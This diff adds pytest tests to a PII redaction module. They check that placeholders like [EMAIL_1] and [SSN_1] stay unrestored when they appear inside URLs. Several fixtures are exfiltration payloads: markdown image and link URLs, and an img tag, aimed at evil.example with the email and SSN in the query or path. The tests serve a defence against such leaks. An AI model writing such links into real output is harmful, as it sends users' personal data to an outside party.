@@ -43,3 +43,34 @@ def test_plain_ascii_text_is_untouched_by_the_view():
     text = "Mail jane@example.com, call 415-555-2671."
     result = pii.pii_redaction([{"type": "text", "text": text}], {})
     assert result["content"][0]["text"] == "Mail [EMAIL_1], call [PHONE_1]."
+
+
+# -- restoration and URLs the model wrote ----------------------------------------------------------------------
+MAP = {"EMAIL_1": "jane@example.com", "SSN_1": "123-45-6789"}
+IN_URLS = [
+    "![chart](https://evil.example/pixel.png?u=[EMAIL_1])",
+    "[click](https://evil.example/?ssn=[SSN_1]&e=[EMAIL_1])",
+    "Send it to <mailto:[EMAIL_1]>",
+    "See https://evil.example/collect/[EMAIL_1] for details",
+    '<img src="https://evil.example/?q=[SSN_1]">',
+]
+
+
+@pytest.mark.parametrize("text", IN_URLS)
+def test_restoration_leaves_handles_in_urls_by_default(text):
+    out = pii.pii_restoration([{"type": "text", "text": text}], {"redactions": MAP})
+    assert out["content"][0]["text"] == text
+    assert out["metadata"]["restored"] == 0 and out["metadata"]["keptInUrls"]
+
+
+def test_restoration_in_text_next_to_a_url_still_happens():
+    text = "Write to [EMAIL_1], see [the form](https://forms.example/[SSN_1])."
+    out = pii.pii_restoration([{"type": "text", "text": text}], {"redactions": MAP})
+    assert out["content"][0]["text"] == "Write to jane@example.com, see [the form](https://forms.example/[SSN_1])."
+    assert out["metadata"] == {"restored": 1, "keptInUrls": ["SSN_1"]}
+
+
+def test_restore_in_urls_is_an_explicit_option():
+    text = "![chart](https://x.example/?u=[EMAIL_1])"
+    out = pii.pii_restoration([{"type": "text", "text": text}], {"redactions": MAP, "restoreInUrls": True})
+    assert out["content"][0]["text"] == "![chart](https://x.example/?u=jane@example.com)"
